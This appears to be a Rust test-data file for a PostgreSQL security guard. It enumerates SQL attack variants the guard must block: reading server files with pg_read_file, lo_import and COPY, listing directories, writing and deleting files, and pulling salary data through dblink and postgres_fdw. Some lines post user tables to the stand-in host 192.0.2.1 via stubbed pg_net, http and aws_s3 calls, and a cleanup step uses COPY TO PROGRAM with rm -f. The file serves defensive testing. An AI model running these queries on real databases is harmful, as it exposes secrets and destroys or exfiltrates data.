//! C1, C2, C14, C15: functions that reach the server's files and other servers.

use super::super::{Fence, Harm, Step, Way};

/// A file in the data directory that only the server's own account can read.
const FILE: &str = "SELECT lo_from_bytea(777001, 'the server''s secret'); SELECT lo_export(777001, 'portcullis_secret'); \
                    SELECT lo_unlink(777001)";
/// Takes it away again; the server's programs run in the data directory.
const NO_FILE: &str = "COPY (SELECT 1) TO PROGRAM 'cat; rm -f portcullis_secret portcullis_written'";
/// What it holds.
const SECRET: Harm = Harm::Tells("the server's secret");

/// One way to read it.
const fn reads(how: &'static str, steps: &'static [Step]) -> Way {
    Way::new(how, Fence::Always, steps, SECRET).setup(FILE).undo(NO_FILE)
}

/// One way to write one.
const fn writes(how: &'static str, steps: &'static [Step]) -> Way {
    Way::new(how, Fence::Always, steps, Harm::Changes).undo(NO_FILE)
}

/// One way to see what is there.
const fn lists(how: &'static str, steps: &'static [Step]) -> Way {
    Way::new(how, Fence::Always, steps, Harm::Tells("portcullis_secret")).setup(FILE).undo(NO_FILE)
}

pub const C1: &[Way] = &[
    reads("FROM", &[Step::Sql("SELECT * FROM pg_read_file('portcullis_secret')")]),
    reads("FROM with a column list", &[Step::Sql("SELECT t.x FROM pg_read_file('portcullis_secret') AS t(x)")]),
    reads(
        "ROWS FROM",
        &[Step::Sql("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_read_file('portcullis_secret')) AS t(a, b)")],
    ),
    reads("WITH ORDINALITY", &[Step::Sql("SELECT * FROM pg_read_file('portcullis_secret') WITH ORDINALITY")]),
    reads("behind a comma", &[Step::Sql("SELECT b FROM (VALUES (1)) v, pg_read_file('portcullis_secret') b")]),
    reads("LATERAL", &[Step::Sql("SELECT b FROM (VALUES ('portcullis_secret')) v(f), LATERAL pg_read_file(v.f) b")]),
    reads(
        "in a sub-select's FROM",
        &[Step::Sql("SELECT (SELECT string_agg(b, '') FROM pg_read_file('portcullis_secret') b)")],
    ),
    reads(
        "in parentheses of a join",
        &[Step::Sql("SELECT b FROM ((VALUES (1)) v CROSS JOIN pg_read_file('portcullis_secret') b)")],
    ),
    reads(
        "FROM of an INSERT",
        &[Step::Sql("INSERT INTO {schema}.log SELECT b FROM pg_read_file('portcullis_secret') b RETURNING msg")],
    ),
    lists("pg_ls_dir", &[Step::Sql("SELECT f FROM {schema}.parent, pg_ls_dir('.') f WHERE f LIKE 'port%'")]),
    Way::new(
        "dblink_exec behind a comma",
        Fence::Always,
        &[Step::Sql(
            "SELECT FROM (VALUES (1)) v, dblink_exec(\
             'host=127.0.0.1 user={role} password={password} dbname={database} port=' || current_setting('port'), \
             'INSERT INTO {schema}.log VALUES (''linked'')')",
        )],
        Harm::Changes,
    )
    .setup("CREATE EXTENSION dblink"),
];

pub const C2: &[Way] = &[
    reads("VALUES", &[Step::Sql("VALUES (pg_read_file('portcullis_secret'))")]),
    reads("the second row", &[Step::Sql("VALUES ('a'), (pg_read_file('portcullis_secret'))")]),
    reads("VALUES in FROM", &[Step::Sql("SELECT * FROM (VALUES (pg_read_file('portcullis_secret'))) t")]),
    reads("VALUES in an arm", &[Step::Sql("SELECT 'a' UNION VALUES (pg_read_file('portcullis_secret'))")]),
    reads("VALUES in WITH", &[Step::Sql("WITH q AS (VALUES (pg_read_file('portcullis_secret'))) TABLE q")]),
    reads(
        "VALUES of an INSERT",
        &[Step::Sql("INSERT INTO {schema}.log VALUES (pg_read_file('portcullis_secret')) RETURNING msg")],
    ),
    reads(
        "IN (VALUES)",
        &[Step::Sql(
            "SELECT f FROM (SELECT pg_catalog.convert_from('the server''s secret', 'UTF8')) q(f) \
         WHERE f IN (VALUES (pg_read_file('portcullis_secret')))",
        )],
    ),
    Way::new(
        "a sleep",
        Fence::Deed("SELECT pg_sleep(0)"),
        &[Step::Sql("SELECT * FROM (VALUES ((pg_sleep(0.01))::text || 'slept')) t")],
        Harm::Tells("slept"),
    ),
];

pub const C14: &[Way] = &[
    reads("pg_read_file", &[Step::Sql("SELECT pg_read_file('portcullis_secret')")]),
    reads("pg_read_file with its schema", &[Step::Sql("SELECT pg_catalog.pg_read_file('portcullis_secret', 0, 100)")]),
    reads("pg_read_file in quotes", &[Step::Sql("SELECT \"pg_read_file\"('portcullis_secret')")]),
    reads("pg_read_file of U&", &[Step::Sql(r#"SELECT U&"\0070g_read_file"('portcullis_secret')"#)]),
    reads("pg_read_binary_file", &[Step::Sql("SELECT encode(pg_read_binary_file('portcullis_secret'), 'escape')")]),
    reads(
        "lo_import",
        &[
            Step::Sql("SELECT lo_import('portcullis_secret', 777002)"),
            Step::Sql("SELECT encode(lo_get(777002), 'escape')"),
        ],
    ),
    reads(
        "COPY FROM a file",
        &[
            Step::Query(
                "DO $$BEGIN EXECUTE format('COPY {schema}.log FROM %L', \
             current_setting('data_directory') || '/portcullis_secret'); END$$",
            ),
            Step::Sql("SELECT msg FROM {schema}.log"),
        ],
    ),
    Way::new(
        "pg_stat_file",
        Fence::Always,
        &[Step::Sql(
            "SELECT 'it is ' || CASE WHEN isdir THEN 'dir' ELSE 'file' END FROM pg_stat_file('portcullis_secret')",
        )],
        Harm::Tells("it is file"),
    )
    .setup(FILE)
    .undo(NO_FILE),
    lists("pg_ls_dir", &[Step::Sql("SELECT f FROM pg_ls_dir('.', true, false) f WHERE f ~ 'port'")]),
    lists(
        "an array of pg_ls_dir",
        &[Step::Sql("SELECT (ARRAY(SELECT f FROM pg_ls_dir('.') f WHERE f LIKE 'portc%' ORDER BY f))[1]")],
    ),
    Way::new(
        "pg_ls_waldir",
        Fence::Always,
        &[Step::Sql("SELECT count(*) > 0 AS x, 'listed' FROM pg_ls_waldir()")],
        Harm::Tells("listed"),
    ),
    Way::new(
        "pg_ls_tmpdir",
        Fence::Always,
        &[Step::Sql("SELECT count(*) >= 0, 'listed' FROM pg_ls_tmpdir()")],
        Harm::Tells("listed"),
    ),
    Way::new(
        "pg_ls_logicalsnapdir",
        Fence::Always,
        &[Step::Sql("SELECT count(*) >= 0, 'listed' FROM pg_ls_logicalsnapdir()")],
        Harm::Tells("listed"),
    )
    .since(15),
    Way::new(
        "pg_current_logfile",
        Fence::Always,
        &[Step::Sql("SELECT 'it is at ' || coalesce(pg_current_logfile(), 'no place')")],
        Harm::Tells("it is at"),
    ),
    Way::new(
        "pg_hba_file_rules",
        Fence::Always,
        &[Step::Sql("SELECT DISTINCT type FROM pg_hba_file_rules() WHERE type = 'host'")],
        Harm::Tells("host"),
    ),
    Way::new(
        "pg_show_all_file_settings",
        Fence::Always,
        &[Step::Sql("SELECT count(*) >= 0, 'listed' FROM pg_show_all_file_settings()")],
        Harm::Tells("listed"),
    ),
    writes(
        "lo_export",
        &[Step::Query(
            "BEGIN; SELECT lo_from_bytea(777003, 'x'); SELECT lo_export(777003, 'portcullis_written'); ROLLBACK",
        )],
    ),
    Way::new(
        "lo_export alone",
        Fence::Always,
        &[Step::Sql("SELECT lo_export(777004, 'portcullis_written')")],
        Harm::Changes,
    )
    .setup("SELECT lo_from_bytea(777004, 'x')")
    .undo(NO_FILE),
    writes("adminpack's pg_file_write", &[Step::Sql("SELECT pg_file_write('portcullis_written', 'x', false)")])
        .setup("CREATE EXTENSION adminpack")
        .majors(0, 16),
    Way::new(
        "adminpack's pg_file_unlink",
        Fence::Always,
        &[Step::Sql("SELECT pg_catalog.pg_file_unlink('portcullis_secret')")],
        Harm::Changes,
    )
    .setup("CREATE EXTENSION adminpack; SELECT pg_file_write('portcullis_secret', 'x', false)")
    .undo(NO_FILE)
    .majors(0, 16),
    reads(
        "file_fdw",
        &[
            Step::Sql("CREATE FOREIGN TABLE {schema}.file (x text) SERVER disk OPTIONS (filename 'portcullis_secret')"),
            Step::Sql("SELECT x FROM {schema}.file"),
        ],
    )
    .setup(
        "SELECT lo_from_bytea(777001, 'the server''s secret'); SELECT lo_export(777001, 'portcullis_secret'); \
         SELECT lo_unlink(777001); \
         CREATE EXTENSION file_fdw; CREATE SERVER disk FOREIGN DATA WRAPPER file_fdw",
    ),
];

/// Where this very server listens, for one that connects to itself.
macro_rules! here {
    () => {
        "'host=127.0.0.1 user={role} password={password} dbname={database} port=' || current_setting('port')"
    };
}

/// One way to read what the attacker's own server would answer.
const fn linked(how: &'static str, steps: &'static [Step]) -> Way {
    Way::new(how, Fence::Always, steps, Harm::Tells("salary-1")).setup("CREATE EXTENSION dblink")
}

pub const C15: &[Way] = &[
    linked(
        "dblink",
        &[Step::Sql(concat!("SELECT * FROM dblink(", here!(), ", 'SELECT amount FROM hr.salaries') AS t(x text)"))],
    ),
    linked(
        "dblink_connect",
        &[
            Step::Sql(concat!("SELECT dblink_connect('far', ", here!(), ")")),
            Step::Sql("SELECT * FROM dblink('far', 'SELECT amount FROM hr.salaries') AS t(x text)"),
        ],
    ),
    linked(
        "dblink_open",
        &[
            Step::Sql(concat!("SELECT dblink_connect_u('far', ", here!(), ")")),
            Step::Sql("SELECT dblink_open('far', 'c', 'SELECT amount FROM hr.salaries')"),
            Step::Sql("SELECT * FROM dblink_fetch('far', 'c', 1) AS t(x text)"),
        ],
    ),
    linked(
        "dblink_send_query",
        &[
            Step::Sql(concat!("SELECT dblink_connect('far', ", here!(), ")")),
            Step::Sql("SELECT dblink_send_query('far', 'SELECT amount FROM hr.salaries')"),
            Step::Sql("SELECT * FROM dblink_get_result('far') AS t(x text)"),
        ],
    ),
    linked(
        "dblink in another schema",
        &[Step::Sql(concat!("SELECT * FROM hr.dblink(", here!(), ", 'SELECT amount FROM hr.salaries') AS t(x text)"))],
    )
    .setup("CREATE EXTENSION dblink SCHEMA hr"),
    Way::new(
        "dblink_exec",
        Fence::Always,
        &[Step::Sql(concat!("SELECT dblink_exec(", here!(), ", 'INSERT INTO {schema}.log VALUES (''linked'')')"))],
        Harm::Changes,
    )
    .setup("CREATE EXTENSION dblink"),
    Way::new(
        "postgres_fdw: a server of one's own",
        Fence::Always,
        &[
            Step::Sql("CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1')"),
            Step::Sql("CREATE USER MAPPING FOR {role} SERVER far"),
            Step::Sql("CREATE FOREIGN TABLE {schema}.taken (x text) SERVER far"),
        ],
        Harm::Changes,
    )
    .setup("CREATE EXTENSION postgres_fdw"),
    Way::new(
        "postgres_fdw: IMPORT FOREIGN SCHEMA",
        Fence::Always,
        &[Step::Sql("IMPORT FOREIGN SCHEMA hr FROM SERVER here INTO evil")],
        Harm::Changes,
    )
    .setup(HERE),
    Way::new(
        "postgres_fdw: another address for a known server",
        Fence::Always,
        &[Step::Sql("ALTER SERVER here OPTIONS (SET host '192.0.2.1')")],
        Harm::Changes,
    )
    .setup(HERE),
    Way::new(
        "pg_net",
        Fence::Always,
        &[Step::Sql("SELECT net.http_post('http://192.0.2.1/', body => (SELECT jsonb_agg(s) FROM {users} s))")],
        Harm::Changes,
    )
    .setup(
        "CREATE SCHEMA net; CREATE TABLE net.queue (url text, body jsonb); \
         CREATE FUNCTION net.http_post(url text, body jsonb) RETURNS void LANGUAGE sql AS \
         'INSERT INTO net.queue VALUES ($1, $2)'",
    ),
    Way::new(
        "http",
        Fence::Always,
        &[Step::Sql("SELECT http.http_get('http://192.0.2.1/?' || name) FROM {users}")],
        Harm::Changes,
    )
    .setup(
        "CREATE SCHEMA http; CREATE TABLE http.sent (url text); \
         CREATE FUNCTION http.http_get(url text) RETURNS void LANGUAGE sql AS 'INSERT INTO http.sent VALUES ($1)'",
    ),
    Way::new(
        "aws_s3",
        Fence::Always,
        &[Step::Sql("SELECT aws_s3.query_export_to_s3('select amount from hr.salaries', 'bucket', 'key', 'region')")],
        Harm::Changes,
    )
    .setup(
        "CREATE SCHEMA aws_s3; CREATE TABLE aws_s3.sent (x text); \
         CREATE FUNCTION aws_s3.query_export_to_s3(text, text, text, text) RETURNS void LANGUAGE plpgsql AS \
         $$BEGIN EXECUTE 'INSERT INTO aws_s3.sent ' || $1; END$$",
    ),
    Way::new(
        "aws_lambda",
        Fence::Always,
        &[Step::Sql("SELECT aws_lambda.invoke('function', '{\"a\": 1}')")],
        Harm::Changes,
    )
    .setup(
        "CREATE SCHEMA aws_lambda; CREATE TABLE aws_lambda.sent (x json); \
         CREATE FUNCTION aws_lambda.invoke(text, json) RETURNS void LANGUAGE sql AS \
         'INSERT INTO aws_lambda.sent VALUES ($2)'",
    ),
];

/// A server of postgres_fdw that is this one.
const HERE: &str = "CREATE EXTENSION postgres_fdw; DO $$BEGIN EXECUTE format('CREATE SERVER here FOREIGN DATA WRAPPER \
                    postgres_fdw OPTIONS (host ''127.0.0.1'', dbname %L, port %L)', current_database(), \
                    current_setting('port')); END$$; CREATE USER MAPPING FOR PUBLIC SERVER here OPTIONS (user '{role}', \
                    password '{password}')";
